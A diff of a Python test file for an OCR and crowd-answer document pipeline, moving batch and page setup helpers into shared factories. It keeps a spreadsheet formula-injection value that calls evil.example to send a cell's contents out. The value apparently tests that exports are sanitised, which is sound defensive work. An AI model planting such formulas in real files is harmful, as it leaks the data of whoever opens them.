@@ -11,18 +11,16 @@ from typing import Any
 
 import pandas as pd
 import pytest
-from sqlalchemy import func, insert, select
+from sqlalchemy import func, select
 
 from kerani.core.settings import Settings
-from kerani.core.vocabulary import BatchStatus, FieldStatus, PageStatus, ScanStatus
+from kerani.core.vocabulary import PageStatus, ScanStatus
 from kerani.flows.documents import finish_ready_documents
 from kerani.forms.templates import load_template
 from kerani.ingest.batches import record_scan
 from kerani.microtasks.answers import submit_answer
 from kerani.microtasks.audit import log_view
 from kerani.microtasks.leases import claim_next
-from kerani.microtasks.routing import route_page
-from kerani.ocr.preocr import Reading, store_fields
 from kerani.people.workers import add_person, person_by_code
 from kerani.records.audit_trail import AUDIT_COLUMNS
 from kerani.records.dictionary import normalised_value
@@ -35,9 +33,8 @@ from kerani.records.exports import (
     restore_cell,
 )
 from kerani.storage import schema
-from kerani.storage.database import utcnow
 from kerani.storage.stores import Stores
-from tests.factories import png
+from tests.factories import add_fields, add_page, new_batch
 
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
 # Fields of the done page: (name, type, OCR guess, confidence). The sure ones are trusted.
@@ -58,21 +55,6 @@ TYPED = {
 NAMES = [f"Nurul Aisyah binti Worker{i}" for i in range(6)]
 
 
-def _batch(stores: Stores, template: str = "bantuan_form") -> str:
-    batch_id = secrets.token_hex(16)
-    with stores.db.begin() as conn:
-        conn.execute(
-            insert(schema.batches).values(
-                id=batch_id,
-                template=template,
-                source="test",
-                status=BatchStatus.INGESTED,
-                created_at=utcnow(),
-            )
-        )
-    return batch_id
-
-
 def _scan(stores: Stores, batch_id: str, name: str, sha: str | None, **kw: Any) -> int:
     return record_scan(
         stores.db,
@@ -84,63 +66,6 @@ def _scan(stores: Stores, batch_id: str, name: str, sha: str | None, **kw: Any) 
         status=kw.get("status", ScanStatus.ACCEPTED),
         error=kw.get("error"),
     )
-
-
-def _page(
-    stores: Stores,
-    batch_id: str,
-    scan_id: int,
-    sha: str,
-    index: int,
-    status: str,
-    guesses: list[tuple[str, str, str, float]] = (),  # type: ignore[assignment]
-    error: str | None = None,
-    template: str = "bantuan_form",
-) -> int:
-    """A page of a scan in `status`; with guesses, its fields stored and routed."""
-    with stores.db.begin() as conn:
-        page_id = int(
-            conn.execute(
-                insert(schema.pages)
-                .values(
-                    batch_id=batch_id,
-                    scan_id=scan_id,
-                    source_sha256=sha,
-                    page_index=index,
-                    template=template,
-                    image_key="none",
-                    width=100,
-                    height=100,
-                    status=status,
-                    error=error,
-                    created_at=utcnow(),
-                )
-                .returning(schema.pages.c.id)
-            ).scalar_one()
-        )
-        if guesses:
-            rows = []
-            for i, (name, kind, _text, _conf) in enumerate(guesses):
-                key = f"snippets/{page_id}/{name}.png"
-                stores.blobs.put(key, png())
-                rows.append(
-                    {
-                        "page_id": page_id,
-                        "name": name,
-                        "kind": kind,
-                        "x0": 0,
-                        "y0": 10 * i,
-                        "x1": 50,
-                        "y1": 10 * i + 8,
-                        "snippet_key": key,
-                        "status": FieldStatus.PENDING,
-                        "answer_count": 0,
-                    }
-                )
-            store_fields(conn, rows, [Reading("null", t, c) for _n, _k, t, c in guesses])
-    if guesses:
-        route_page(stores.db, page_id, 96.0)
-    return page_id
 
 
 def _answer_all(
@@ -169,19 +94,19 @@ def _answer_all(
 def partial(settings: Settings, stores: Stores) -> str:
     """A batch half on its way: a done page, a page waiting for people, a page the OCR
     could not read, a page not read yet, a refused file and a refused range of pages."""
-    batch = _batch(stores)
+    batch = new_batch(stores)
     a = _scan(stores, batch, "a.png", "a" * 64)
-    _page(stores, batch, a, "a" * 64, 0, PageStatus.OCRED, DONE_PAGE)
+    add_fields(stores, add_page(stores, a, 0, PageStatus.OCRED), DONE_PAGE)
     _answer_all(settings, stores, TYPED, NAMES[:3])
     assert finish_ready_documents(stores.db, batch) == 1
     # Only now the waiting page: its doubtful town has one answer the OCR disagrees with.
     b = _scan(stores, batch, "b.pdf", "b" * 64)
     waiting = [("full_name", "text", "SITI AMINAH", 99.0), ("city", "text", "SHAH ALAM", 40.0)]
-    _page(stores, batch, b, "b" * 64, 0, PageStatus.OCRED, waiting)
+    add_fields(stores, add_page(stores, b, 0, PageStatus.OCRED), waiting)
     _answer_all(settings, stores, {"city": ("value", "KLANG")}, NAMES[3:4])
-    _page(stores, batch, b, "b" * 64, 1, PageStatus.OCR_FAILED, error="too dark to read")
+    add_page(stores, b, 1, PageStatus.OCR_FAILED, error="too dark to read")
     c = _scan(stores, batch, "c.png", "c" * 64)
-    _page(stores, batch, c, "c" * 64, 0, PageStatus.INGESTED)
+    add_page(stores, c, 0, PageStatus.INGESTED)
     _scan(stores, batch, "notes.txt", None, status="rejected", error="not an image or a PDF")
     _scan(
         stores,
@@ -356,7 +281,7 @@ def test_the_dictionary_describes_every_column(stores: Stores, partial: str) -> 
 def test_a_receipts_dictionary_names_its_key_fields_and_text_lines(
     settings: Settings, stores: Stores
 ) -> None:
-    batch = _batch(stores, "receipt")
+    batch = new_batch(stores, "receipt")
     scan = _scan(stores, batch, "r.jpg", "d" * 64)
     guesses = [
         ("company", "text", "KEDAI MAJU SDN BHD", 99.0),
@@ -365,7 +290,7 @@ def test_a_receipts_dictionary_names_its_key_fields_and_text_lines(
         ("line_001", "line", "KEDAI MAJU SDN BHD", 99.0),
         ("line_002", "line", "TOTAL 9.00", 99.0),
     ]
-    _page(stores, batch, scan, "d" * 64, 0, PageStatus.OCRED, guesses, template="receipt")
+    add_fields(stores, add_page(stores, scan, 0, PageStatus.OCRED), guesses)
     # Text lines always go to people; the sure key fields were trusted.
     lines = {name: ("value", text) for name, kind, text, _ in guesses if kind == "line"}
     _answer_all(settings, stores, lines, NAMES[:3])
